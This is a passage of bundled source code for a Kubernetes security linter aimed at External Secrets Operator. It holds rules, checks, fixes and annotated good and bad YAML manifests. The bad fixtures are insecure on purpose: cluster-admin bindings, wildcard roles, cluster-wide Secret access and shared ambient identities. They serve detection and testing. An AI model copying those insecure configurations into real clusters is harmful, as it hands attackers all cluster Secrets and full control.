  - { kind: ServiceAccount, name: controller, namespace: eso } # finding: ServiceAccount eso/controller is bound to cluster-admin in all namespaces
  - { kind: ServiceAccount, name: backup, namespace: backup }
---
# A RoleBinding gives the namespace only.
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: eso-admin, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin }
subjects:
  - { kind: User, apiGroup: rbac.authorization.k8s.io, name: "system:serviceaccount:eso:controller" } # finding[high]: ServiceAccount eso/controller is bound to cluster-admin in namespace shop
`,
    `
# The operator is installed from elsewhere; the store says whose token goes to the provider.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: vault }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth:
        kubernetes: { role: eso, serviceAccountRef: { name: vault-login, namespace: eso } }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: vault-login }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin }
subjects:
  - { kind: ServiceAccount, name: vault-login, namespace: eso } # finding: ServiceAccount eso/vault-login is bound to cluster-admin in all namespaces
`,
    `
# A role of another name that says the same.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: eso-everything }
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets]
    verbs: [get]
  - nonResourceURLs: ["*"]
    verbs: ["*"]
  - apiGroups: ["*"]
    resources: ["*"] # finding: ServiceAccount eso/controller may do everything in all namespaces, as with cluster-admin
    verbs: ["*"]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: eso-everything }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: eso-everything }
subjects:
  - { kind: ServiceAccount, name: controller, namespace: eso }
`
  ],
  good: [
    `
# config: { operators: [{ kind: Group, name: platform }] }
# Argo CD, a backup tool and the operators are cluster administrators on purpose; the operator itself is none.
apiVersion: apps/v1
kind: Deployment
metadata: { name: eso, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: controller
      containers:
        - { name: eso, image: "registry.example.com/external-secrets:v2.9.0" }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: admins }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin }
subjects:
  - { kind: ServiceAccount, name: argocd-application-controller, namespace: argocd }
  - { kind: ServiceAccount, name: backup, namespace: backup }
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: platform }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: eso-reader }
rules:
  - { apiGroups: ["*"], resources: ["*"], verbs: [get, list, watch] }
  - { apiGroups: ["*"], resources: ["*"], resourceNames: [eso], verbs: ["*"] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: eso-reader }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: eso-reader }
subjects:
  - { kind: ServiceAccount, name: controller, namespace: eso }
---
# Everything, in one namespace, and in nobody's hands: rules about wildcards look at those.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: eso-everything }
rules:
  - { apiGroups: [external-secrets.io], resources: [externalsecrets], verbs: [get] }
  - { apiGroups: ["*"], resources: ["*"], verbs: ["*"] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: eso-everything, namespace: eso }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: eso-everything }
subjects:
  - { kind: ServiceAccount, name: controller, namespace: eso }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: unbound }
rules:
  - { apiGroups: ["*"], resources: ["*"], verbs: ["*"] }
`
  ],
  check: (manifest, world) => manifest.kind === "ClusterRole" ? equalRoles(manifest, world) : bindings(manifest, world),
  fix: (fault) => unsafe(NEEDED2, fault.path[0] === "subjects" ? withoutSubject(fault) : void 0)
});
var NEEDED2 = "Has the subject a role of its own for what it does? It loses all other rights.";
function* bindings(binding, world) {
  if (builtInRoleOf(binding, world.rbac) !== "cluster-admin") return;
  const grants = world.rbac.grantsIn(binding);
  const judged = /* @__PURE__ */ new Set([...inScope(grants, world), ...grants.filter(({ subject }) => isStoreAccount(subject, world))]);
  for (const { subject, path, namespace } of judged)
    yield {
      path,
      severity: namespace === void 0 ? "critical" : "high",
      message: `${nameOfSubject(subject)} is bound to cluster-admin in ${namespace === void 0 ? "all namespaces" : `namespace ${namespace}`}`
    };
}
var isStoreAccount = (subject, world) => subject.kind === "ServiceAccount" && !isUnknown(subject) && storeSigningInAs(subject, world) !== void 0;
function* equalRoles(role, world) {
  const grants = inScope(world.rbac.grantsOf(role), world).filter(({ namespace }) => namespace === void 0);
  const subjects = [...new Set(grants.map(({ subject }) => nameOfSubject(subject)))].join(", ");
  for (const rule2 of grants.length > 0 ? policyRules(role) : [])
    if (isUnlimited(rule2))
      yield {
        path: wildPath(rule2, "resources"),
        message: `${subjects} may do everything in all namespaces, as with cluster-admin`,
        related: bindingsOf(grants)
      };
}

// src/check/teams.ts
var teamsIn = ({ config }) => Object.entries(config.teams ?? {}).map(([name, team]) => ({ ...team, name }));
var teamsOfNamespace = (namespace, world) => teamsIn(world).filter(({ namespaces = [] }) => namespace !== void 0 && namespaces.includes(namespace));
var teamsOf = (subject, world) => teamsIn(world).filter(
  ({ subjects = [], namespaces = [] }) => subjects.some((named2) => [subject, ...implicitGroups(subject)].some((holder) => isNamedBy(holder, named2))) || subject.kind === "ServiceAccount" && namespaces.includes(subject.namespace ?? "")
);
function teamNamespacesOf(subject, world) {
  const lists = teamsOf(subject, world).map(({ namespaces }) => namespaces);
  return lists.length > 0 && lists.every((list) => list !== void 0) ? new Set(lists.flat()) : void 0;
}
var storesOfTeams = ({ subject, namespace }, world) => teamsOf(subject, world).filter(({ namespaces = [] }) => namespace !== void 0 && namespaces.includes(namespace)).flatMap(({ stores = [] }) => stores);

// src/check/write-access.ts
function* writeAccess(role, world, targets, unheld = "medium") {
  const { rbac, eso } = world;
  yield* byAggregation(role, world, targets);
  const grants = rbac.grantsOf(role);
  const strangers2 = grants.filter((grant) => isStranger(grant, world));
  const isHeld = grants.length > 0 || [role, ...rbac.aggregatorsOf(role)].some((holder) => builtInAggregation(holder).length > 0);
  for (const rule2 of policyRules(role)) {
    const path = pathOf(rule2, targets);
    if (!path) continue;
    const access = accessOf([rule2], targets);
    if (strangers2.length > 0)
      yield {
        path,
        message: `${holders(strangers2)} can ${access} and ${areNoOperators(strangers2)}`,
        related: bindingsOf(strangers2)
      };
    else if (!isHeld && !eso.isOwnPart(role))
      yield {
        path,
        severity: unheld,
        message: `whoever gets this role can ${access}, and no binding in the set says who that is`
      };
  }
}
function* clusterWideWriteAccess(role, world, targets, judge) {
  const { rbac } = world;
  const isFound = (grant) => grant.namespace === void 0 && isStranger(grant, world);
  const gathered = gatheredRules(role, world, targets);
  const worst = judge(gathered.flatMap((rule2) => writes(rule2, targets)));
  if (worst === void 0) return;
  for (const { label, roles } of builtInAggregation(role)) {
    const strangers3 = roles.flatMap((name) => rbac.grantsOfClusterRole(name)).filter(isFound);
    const through = `through this label and the built-in role ${joined(roles, "or")}, `;
    const path = ["metadata", "labels", label];
    if (strangers3.length > 0) yield strangersProblem(path, worst, strangers3, gathered, targets, through);
  }
  const strangers2 = rbac.grantsOf(role).filter(isFound);
  for (const rule2 of strangers2.length > 0 ? policyRules(role) : []) {
    const path = pathOf(rule2, targets);
    const severity = judge(writes(rule2, targets));
    if (path && severity) yield strangersProblem(path, severity, strangers2, [rule2], targets);
  }
}
var strangersProblem = (path, severity, strangers2, rules, targets, through = "") => ({
  path,
  severity,
  message: `${through}${holders(strangers2)} can ${accessOf(rules, targets)} and ${areNoOperators(strangers2)}`,
  related: bindingsOf(strangers2)
});
function* byAggregation(role, world, targets) {
  const writing = gatheredRules(role, world, targets);
  if (writing.length === 0) return;
  for (const { label, roles } of builtInAggregation(role)) {
    const strangers2 = roles.flatMap((name) => world.rbac.grantsOfClusterRole(name)).filter((grant) => isStranger(grant, world));
    yield {
      path: ["metadata", "labels", label],
      message: `through this label everyone with the built-in role ${joined(roles, "or")} can ${accessOf(writing, targets)}, also anybody who is not a configured operator`,
      related: bindingsOf(strangers2)
    };
  }
}
var gatheredRules = (role, { rbac }, targets) => [role, ...rbac.aggregatedBy(role)].flatMap(policyRules).filter((rule2) => pathOf(rule2, targets));
var WRITES = ["create", "update", "patch", "delete", "deletecollection"];
var listed = (targets) => "resource" in targets ? [targets] : targets;
var writesOne = (rule2, target) => {
  const group = groupOfResource(target);
  return namesGroup(rule2, group) ? verbsGiven(rule2, { group, resource: target.resource, verbs: WRITES }) : [];
};
var writes = (rule2, targets) => listed(targets).flatMap((target) => writesOne(rule2, target));
function pathOf(rule2, targets) {
  const target = listed(targets).find((candidate) => writesOne(rule2, candidate).length > 0);
  return target && resourcePath(rule2, target.resource);
}
function accessOf(rules, targets) {
  const given = new Set(rules.flatMap((rule2) => writes(rule2, targets)));
  const plurals = listed(targets).filter((target) => rules.some((rule2) => writesOne(rule2, target).length > 0)).map(({ plural }) => plural);
  const names = rules.every((rule2) => rule2.resourceNames.length > 0) ? rules.flatMap((rule2) => rule2.resourceNames) : [];
  const which = names.length > 0 ? ` named ${[...new Set(names)].join(", ")}` : "";
  return `${WRITES.filter((verb) => given.has(verb)).join(", ")} ${[...new Set(plurals)].join(", ")}${which}`;
}
var isStranger = ({ subject }, world) => !isPlaceholder(subject.name) && !isPlaceholder(subject.namespace) && !world.isOperator(subject) && !isUnseenController(subject, world);
function isUnseenController(subject, world) {
  if (subject.kind !== "ServiceAccount") return false;
  const answers = answersIn(world);
  const name = nameOfSubject(subject);
  const answer = answers.get(name) ?? world.rbac.rolesOf(subject).some(({ role }) => writesStatus(role));
  answers.set(name, answer);
  return answer;
}
var answersIn = remember((_) => /* @__PURE__ */ new Map());
var writesStatus = remember(
  (role) => policyRules(role).some((rule2) => namesResource(rule2, STATUS) && verbsGiven(rule2, STATUS).length > 0)
);
var STATUS = { group: ESO_GROUP, resource: "externalsecrets/status", verbs: ["update", "patch"] };
var areNoOperators = (grants) => new Set(grants.map(({ subject }) => nameOfSubject(subject))).size === 1 ? "is not a configured operator" : "none of them is a configured operator";

// src/rules/cluster-wide-external-secret-access.ts
var cluster_wide_external_secret_access_default = defineRule({
  id: "cluster-wide-external-secret-access",
  title: "Somebody who is no operator can write ExternalSecrets in every namespace, or in that of another team",
  severities: ["high", "low"],
  kinds: ["rbac.authorization.k8s.io/ClusterRole", "rbac.authorization.k8s.io/RoleBinding"],
  why: "Whoever may create ExternalSecrets everywhere chooses the namespace whose stores are used and the one the Secret appears in, so that all that any store may fetch ends where they can read it. In a namespace of another team it is that team’s stores and Secrets.",
  remedy: "Bind the role with a RoleBinding in each namespace that needs it instead of a ClusterRoleBinding. Who only asks for refreshes needs patch, in those namespaces. Name those who may under `operators` in this tool's config, and who has which namespaces under `teams` (`subjects` and `namespaces`).",
  references: [
    "https://external-secrets.io/latest/guides/threat-model/",
    "https://kubernetes.io/docs/reference/access-authn-authz/rbac/#rolebinding-and-clusterrolebinding"
  ],
  guide: ["RM4", "TM3"],
  bad: [
    `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: external-secret-developer }
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets] # finding: Group developers (in all namespaces) can create, update, patch, delete ExternalSecrets and is not a configured operator
    verbs: [get, list, watch, create, update, patch, delete]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: external-secret-developer }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: external-secret-developer }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers }
`,
    `
# An annotation asks for a refresh. Names take away create, and leave the rest.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: refresher }
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets] # finding[low]: ServiceAccount tools/refresher (in all namespaces) can patch ExternalSecrets
    verbs: [get, patch]
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets] # finding[low]: can update, patch, delete ExternalSecrets named db
    resourceNames: [db]
    verbs: ["*"]
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets]
    verbs: [delete]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: refresher }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: refresher }
subjects:
  - { kind: ServiceAccount, name: refresher, namespace: tools }
`,
    `
# In the hands of everybody whom the built-in edit is bound to for the whole cluster.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: external-secrets-edit
  labels:
    rbac.authorization.k8s.io/aggregate-to-edit: "true" # finding: through this label and the built-in role edit or admin, User ann (in all namespaces) can create ExternalSecrets
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets]
    verbs: [create]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: ann }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: admin }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: User, name: ann }
`,
    `
# config: { teams: { shop: { namespaces: [shop, shop-test], subjects: [{ kind: Group, name: shop }, { kind: User, name: ann }] }, web: { namespaces: [web], subjects: [{ kind: User, name: ann }] } } }
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: external-secret-developer }
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets]
    verbs: [get, create, patch]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: developers, namespace: bank }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: external-secret-developer }
subjects:
  - { kind: Group, name: bank }
  - { kind: Group, name: shop } # finding[high]: Group shop of team shop can create, patch ExternalSecrets in namespace bank, which is not among the team's (shop, shop-test)
  - { kind: User, name: ann } # finding[high]: User ann of teams shop and web can create, patch ExternalSecrets in namespace bank, which is not among the teams' (shop, shop-test, web)
  - { kind: ServiceAccount, name: robot, namespace: web } # finding[high]: ServiceAccount web/robot of team web can
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: { name: refresher, namespace: bank }
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets]
    verbs: [patch, delete]
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets]
    verbs: [update]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: refresher, namespace: bank }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: Role, name: refresher }
subjects:
  - { kind: Group, name: shop } # finding[low]: Group shop of team shop can update, patch ExternalSecrets in namespace bank
`
  ],
  good: [
    `
# As the guidance has it: one binding a namespace.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: external-secret-developer }
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets]
    verbs: [get, list, watch, create, update, patch, delete]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: external-secret-developer, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: external-secret-developer }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers }
`,
    `
# Another operator has the same plural, and reading is no writing.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: old-operator }
rules:
  - apiGroups: [kubernetes-client.io]
    resources: [externalsecrets]
    verbs: ["*"]
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets]
    verbs: [get, list, watch]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: old-operator }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: old-operator }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers }
`,
    `
# In a team's own namespaces its people may; so may operators everywhere, and of a team without namespaces nothing is known.
# config: { operators: [{ kind: Group, name: platform }], teams: { shop: { namespaces: [shop], subjects: [{ kind: Group, name: shop }, { kind: Group, name: platform }] }, web: { subjects: [{ kind: Group, name: web }] } } }
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: external-secret-developer }
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets]
    verbs: [get, create]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: developers, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: external-secret-developer }
subjects:
  - { kind: Group, name: shop }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: developers, namespace: bank }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: external-secret-developer }
subjects:
  - { kind: Group, name: platform }
  - { kind: Group, name: web }
---
# What cluster-admin gives in a namespace, and a \`*\` for all groups, other rules look at.
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: admin, namespace: bank }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin }
subjects:
  - { kind: Group, name: shop }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: { name: all, namespace: bank }
rules:
  - { apiGroups: ["*"], resources: [externalsecrets], verbs: [create] }
  - { apiGroups: [external-secrets.io], resources: [externalsecrets], verbs: [get] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: all, namespace: bank }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: Role, name: all }
subjects:
  - { kind: Group, name: shop }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: later, namespace: "\${NAMESPACE}" }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: external-secret-developer }
subjects:
  - { kind: Group, name: shop }
`
  ],
  *check(manifest, world) {
    if (manifest.kind === "RoleBinding") yield* ofOtherTeams(manifest, world);
    else yield* clusterWideWriteAccess(manifest, world, EXTERNAL_SECRETS, severityOf2);
  },
  fix(fault) {
    if (fault.manifest?.kind === "RoleBinding") return void 0;
    const writes2 = withoutWrites(fault, (resource) => resource === EXTERNAL_SECRETS.resource);
    return unsafe(AGGREGATED, withoutAggregation(fault)) ?? unsafe(WRITERS, writes2);
  }
});
var AGGREGATED = "Does anybody write ExternalSecrets, stores or PushSecrets by the built-in role edit or admin? They need a role of their own first.";
var WRITERS = "Do the holders of this role look after ExternalSecrets? They cannot write them any more.";
function* ofOtherTeams(binding, world) {
  const { namespace = "" } = binding;
  const rights = rightsBy(binding, world.rbac).filter(
    ({ role, rule: rule2 }) => role !== void 0 && namesGroup(rule2, ESO_GROUP) && verbsGiven(rule2, WRITE2).length > 0
  );
  const verbs = WRITE2.verbs.filter(
    (verb) => rights.some(({ rule: rule2 }) => verbsGiven(rule2, { ...WRITE2, verbs: [verb] }).length > 0)
  );
  const severity = severityOf2(verbs);
  if (!severity || namespace === "" || isPlaceholder(namespace)) return;
  for (const grant of world.rbac.grantsIn(binding)) {
    const own = teamNamespacesOf(grant.subject, world);
    if (!own || own.has(namespace) || !isStranger(grant, world)) continue;
    const teams = teamsOf(grant.subject, world).map(({ name }) => name);
    yield {
      path: grant.path,
      severity,
      message: `${nameOfSubject(grant.subject)} of ${teams.length > 1 ? "teams" : "team"} ${joined(teams)} can ${verbs.join(", ")} ExternalSecrets in namespace ${namespace}, which is not among the ${teams.length > 1 ? "teams'" : "team's"} (${[...own].join(", ")})`,
      related: rulesBehind(rights, "a rule that gives it")
    };
  }
}
var WRITE2 = { group: ESO_GROUP, resource: "externalsecrets", verbs: ["create", "update", "patch"] };
function severityOf2(verbs) {
  if (verbs.includes("create")) return "high";
  return verbs.includes("update") || verbs.includes("patch") ? "low" : void 0;
}

// src/check/used-namespaces.ts
var CLUSTER_KINDS = [
  ...["ClusterExternalSecret", "ClusterPushSecret", "ClusterSecretStore"].map((kind) => `${ESO_GROUP}/${kind}`),
  `${GENERATORS_GROUP}/ClusterGenerator`
];
var needsWholeCluster = (world) => CLUSTER_KINDS.some((kind) => world.of(kind).length > 0);
function soleNamespace(world) {
  const objects = [...FETCHING_KINDS, ...PUSHING_KINDS, `${ESO_GROUP}/SecretStore`].flatMap((kind) => world.of(kind));
  const [namespace, ...others] = new Set(objects.map((object) => object.namespace));
  const isKnown2 = namespace !== void 0 && !isPlaceholder(namespace) && others.length === 0;
  return isKnown2 && !needsWholeCluster(world) ? namespace : void 0;
}

// src/rules/cluster-wide-secret-access.ts
var cluster_wide_secret_access_default = defineRule({
  id: "cluster-wide-secret-access",
  title: "A ServiceAccount reads or writes the Secrets of every namespace",
  severities: ["high"],
  kinds: ["rbac.authorization.k8s.io/ClusterRole"],
  why: "Whoever takes over one pod of this ServiceAccount holds every Secret of the cluster: all credentials, all ServiceAccount tokens that are stored, all TLS keys.",
  remedy: "Set `scopedRBAC: true` and `scopedNamespace` in the operator chart, so that its controller gets a Role in one namespace; run one controller per team where several namespaces need it.",
  references: ["https://external-secrets.io/latest/guides/security-best-practices/"],
  guide: ["RM3", "RM6", "RM7", "TM1"],
  bad: [
    `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: eso-controller }
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets]
    verbs: [get, list, watch]
  - apiGroups: [""]
    resources:
      - configmaps
      - secrets # finding: ServiceAccount eso/controller can get, list, watch Secrets in all namespaces
    verbs: [get, list, watch]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: eso-controller }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: eso-controller }
subjects:
  - { kind: ServiceAccount, name: controller, namespace: eso }
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: db, namespace: shop }
spec:
  secretStoreRef: { name: vault }
  dataFrom: [{ extract: { key: shop/db } }]
`
  ],
  good: [
    `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: eso-controller }
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets]
    verbs: [get, list, watch]
  - apiGroups: [""]
    resources: [secrets]
    verbs: [get, update]
    resourceNames: [eso-webhook]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: eso-controller }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: eso-controller }
subjects:
  - { kind: ServiceAccount, name: controller, namespace: eso }
`,
    `
# In the operator's own namespace, by a RoleBinding.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: eso-controller }
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets]
    verbs: [get, list, watch]
  - apiGroups: [""]
    resources: [secrets]
    verbs: ["*"]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: eso-controller, namespace: eso }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: eso-controller }
subjects:
  - { kind: ServiceAccount, name: controller, namespace: eso }
`,
    `
# A backup tool's rights are not this tool's business: nothing here is External Secrets Operator.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: backup }
rules:
  - apiGroups: ["*"]
    resources: ["*"]
    verbs: ["*"]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: backup }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: backup }
subjects:
  - { kind: ServiceAccount, name: backup, namespace: backup }
`
  ],
  *check(role, { rbac, eso }) {
    const grants = rbac.grantsOf(role).filter(({ namespace, subject }) => namespace === void 0 && eso.isInScope(subject));
    if (grants.length === 0) return;
    const subjects = [...new Set(grants.map(({ subject }) => nameOfSubject(subject)))].join(", ");
    for (const rule2 of policyRules(role)) {
      const verbs = verbsGiven(rule2, SECRET_ACCESS);
      if (verbs.length === 0 || rule2.resourceNames.length > 0) continue;
      yield {
        path: resourcePath(rule2, "secrets"),
        message: `${subjects} can ${verbs.join(", ")} Secrets in all namespaces`,
        related: grants.map(({ binding }) => ({
          manifest: binding,
          path: ["subjects"],
          message: "bound to all namespaces here"
        }))
      };
    }
  },
  fix(fault) {
    const namespace = soleNamespace(fault.world);
    if (namespace === void 0) return void 0;
    const values = chartValues(fault, { scopedRBAC: true, scopedNamespace: namespace });
    return unsafe(
      `Does the operator work on objects in namespace ${namespace} only, and does nobody need its kinds by the built-in roles view, edit and admin? Both end.`,
      values && [...values, ...withoutLabels(fault)]
    );
  }
});

// src/check/ambient-identity.ts
var ambientIdentity = (connected) => ambientWay(connected, (when2) => hasValue(connected.config, when2));
var maySignInAsPod = (connected) => ambientWay(
  connected,
  (when2) => hasValue(connected.config, when2) || isPlaceholder(valueAt(connected.config, keysOf(when2.field)))
) !== void 0;
var ambientWay = ({ known, config }, holds) => known?.ambient?.find(
  ({ field, when: when2, unless }) => (field === void 0 || isSet(config, field)) && (!when2 || holds(when2)) && !unless.some((other) => isSet(config, other))
);
var tenantsOf = ({ as }, world) => tenants(world).get(as) ?? [];
var tenants = remember((world) => {
  const users2 = CONNECTED_KINDS.flatMap((kind) => world.of(kind)).flatMap((manifest) => {
    const connected = connectedOf(manifest);
    const as = connected && ambientIdentity(connected)?.as;
    const tenant = tenantOf(manifest, world);
    return as === void 0 || tenant === void 0 ? [] : { as, tenant };
  });
  const groups = Map.groupBy(users2, ({ as }) => as);
  return new Map([...groups].map(([as, group]) => [as, [...new Set(group.map(({ tenant }) => tenant))].sort()]));
});
function tenantOf({ namespace }, world) {
  if (namespace === void 0) return void 0;
  const [team] = teamsOfNamespace(namespace, world);
  return team ? `team ${team.name}` : `namespace ${namespace}`;
}

// src/rules/controller-ambient-identity.ts
var controller_ambient_identity_default = defineRule({
  id: "controller-ambient-identity",
  title: "A store signs in as the operator's own pod",
  severities: ["info", "medium"],
  kinds: kindsWith(({ ambient }) => ambient !== void 0),
  needs: ["connections"],
  why: "Everybody whose store says nothing about signing in shares the one identity of the controller's pod, or of its node: it must be allowed what all of them need together, each of them can read what any other can, and the provider's log knows only one name.",
  remedy: "Give each team a ServiceAccount with a role of its own and name it in the block that the message gives (AWS: `auth.jwt.serviceAccountRef`). With one team, EKS Pod Identity or its like on the operator is right: then narrow that role to the secrets the team has.",
  references: [
    "https://external-secrets.io/latest/provider/aws-access/",
    "https://external-secrets.io/latest/provider/azure-key-vault/",
    "https://external-secrets.io/latest/guides/multi-tenancy/"
  ],
  guide: ["PC1", "PC2", "TM2"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: aws, namespace: shop }
spec:
  provider:
    aws: # finding: it signs in to AWS with the controller pod's AWS identity
      service: SecretsManager
      region: eu-west-1
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: azure, namespace: shop }
spec:
  provider:
    azurekv: # finding: it signs in to Azure Key Vault with the controller pod's or node's managed identity; its own: authType WorkloadIdentity with serviceAccountRef
      vaultUrl: https://shop.vault.azure.net
      authType: ManagedIdentity
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth:
        iam: { vaultRole: shop } # finding: it signs in to Vault with the controller pod's AWS identity
---
apiVersion: generators.external-secrets.io/v1alpha1
kind: GCRAccessToken
metadata: { name: registry, namespace: shop }
spec: # finding: it signs in to Google Container Registry with
  projectID: shop
  auth: {}
`,
    `
# Who may use it is everybody.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: aws }
spec:
  provider:
    aws: # finding[medium]: and every namespace can use it
      service: SecretsManager
      region: eu-west-1
`,
    `
# Two tenants, one identity.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: google, namespace: shop }
spec:
  provider:
    gcpsm: { projectID: shop } # finding[medium]: which namespace bank, namespace shop share
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: google, namespace: bank }
spec:
  provider:
    gcpsm: { projectID: shop } # finding[medium]: which namespace bank, namespace shop share
`
  ],
  good: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: aws, namespace: shop }
spec:
  provider:
    aws: { service: SecretsManager, region: eu-west-1, auth: { jwt: { serviceAccountRef: { name: shop } } } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: azure, namespace: shop }
spec:
  provider:
    azurekv: { vaultUrl: "https://shop.vault.azure.net", authType: WorkloadIdentity, serviceAccountRef: { name: shop } }
`,
    `
# A stored key is another fault, and what is filled in later is unknown.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: key, namespace: shop }
spec:
  provider:
    gcpsm: { projectID: shop, auth: { secretRef: { secretAccessKeySecretRef: { name: key } } } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: later, namespace: shop }
spec:
  provider:
    aws:
      service: SecretsManager
      region: eu-west-1
      auth: \${AWS_AUTH}
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: azure-later, namespace: shop }
spec:
  provider:
    azurekv:
      vaultUrl: https://shop.vault.azure.net
      authType: \${AZURE_AUTH_TYPE}
`
  ],
  *check(manifest, world) {
    const connected = connectedOf(manifest);
    const ambient = connected && ambientIdentity(connected);
    if (!connected || !ambient) return;
    const worse = whyWorse(manifest, ambient, world);
